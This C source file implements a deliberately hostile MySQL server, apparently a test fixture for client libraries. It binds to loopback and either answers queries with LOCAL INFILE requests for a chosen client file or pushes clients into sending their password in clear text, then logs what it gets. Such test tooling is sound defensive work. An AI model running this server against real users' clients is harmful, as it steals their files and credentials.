/* SPDX-License-Identifier: MIT */
/*
 * A MySQL server that nobody should trust. It speaks just enough of the protocol to be believed,
 * has no TLS, and wants what is not its own:
 *
 *     hostile-mysql infile FILE     answers every query by asking for that file of the client
 *     hostile-mysql clear           asks for the password in clear text
 *
 * Prints the port that it listens on (127.0.0.1), then a line for what it was given: "connected",
 * "login", "query", "file BYTES", "password TEXT". Ends with SIGTERM.
 */
#include <arpa/inet.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct packet {
    unsigned char number;
    size_t len;
    unsigned char data[65536];
};

static bool read_all(int fd, void *to, size_t len)
{
    char *p = to;

    while (len > 0) {
        const ssize_t n = read(fd, p, len);

        if (n <= 0)
            return false;
        p += n;
        len -= (size_t)n;
    }
    return true;
}

static bool receive(int fd, struct packet *p)
{
    unsigned char head[4];

    if (!read_all(fd, head, sizeof(head)))
        return false;
    p->len = head[0] | (size_t)head[1] << 8 | (size_t)head[2] << 16;
    p->number = head[3];
    return p->len < sizeof(p->data) && read_all(fd, p->data, p->len);
}

/* An answer to the packet that came last. */
static bool answer(int fd, struct packet *p, const void *data, size_t len)
{
    unsigned char out[512] = {(unsigned char)len, 0, 0, ++p->number};

    memcpy(out + 4, data, len);
    return write(fd, out, len + 4) == (ssize_t)(len + 4);
}

static bool answer_ok(int fd, struct packet *p)
{
    return answer(fd, p, "\0\0\0\2\0\0\0", 7);
}

/* Capabilities: the 4.1 protocol, plugins, several statements and LOCAL INFILE; no TLS. */
static bool greet(int fd)
{
    static const char greeting[] = "\n5.5.5-10.11.0-MariaDB\0"
                                   "\1\0\0\0"
                                   "abcdefgh\0"
                                   "\x89\xa2\x2d\2\0\x0b\0\x15"
                                   "\0\0\0\0\0\0\0\0\0\0"
                                   "ijklmnopqrst\0"
                                   "mysql_native_password";
    struct packet p = {.number = 255};

    return answer(fd, &p, greeting, sizeof(greeting));
}

static bool ask_password(int fd, struct packet *p)
{
    static const char change[] = "\xfemysql_clear_password\0";

    if (!answer(fd, p, change, sizeof(change)) || !receive(fd, p))
        return false;
    printf("password %.*s\n", (int)p->len, (const char *)p->data);
    return true;
}

static bool ask_file(int fd, struct packet *p, const char *file)
{
    unsigned char request[300] = {0xfb};
    const size_t len = strlen(file);
    size_t got = 0;

    if (len + 1 > sizeof(request))
        return false;
    memcpy(request + 1, file, len);
    if (!answer(fd, p, request, len + 1))
        return false;
    while (receive(fd, p) && p->len > 0)
        got += p->len;
    printf("file %zu\n", got);
    return answer_ok(fd, p);
}

static void serve(int fd, const char *file)
{
    struct packet p;

    puts("connected");
    if (!greet(fd) || !receive(fd, &p))
        return;
    puts("login");
    if (!file && !ask_password(fd, &p))
        return;
    if (!answer_ok(fd, &p))
        return;
    while (receive(fd, &p) && p.len > 0 && p.data[0] != 1) {
        puts("query");
        if (!(file && p.data[0] == 3 ? ask_file(fd, &p, file) : answer_ok(fd, &p)))
            return;
    }
}

int main(int argc, char **argv)
{
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_addr = {htonl(INADDR_LOOPBACK)}};
    socklen_t size = sizeof(at);
    const int listener = socket(AF_INET, SOCK_STREAM, 0);
    int fd;

    if (argc != 3 - (argc > 1 && strcmp(argv[1], "clear") == 0))
        return 64;
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (listener < 0 || bind(listener, (struct sockaddr *)&at, sizeof(at)) != 0 ||
        listen(listener, 8) != 0 || getsockname(listener, (struct sockaddr *)&at, &size) != 0)
        return 1;
    printf("%d\n", ntohs(at.sin_port));
    while ((fd = accept(listener, NULL, NULL)) >= 0) {
        serve(fd, argv[2]);
        close(fd);
    }
    return 0;
}
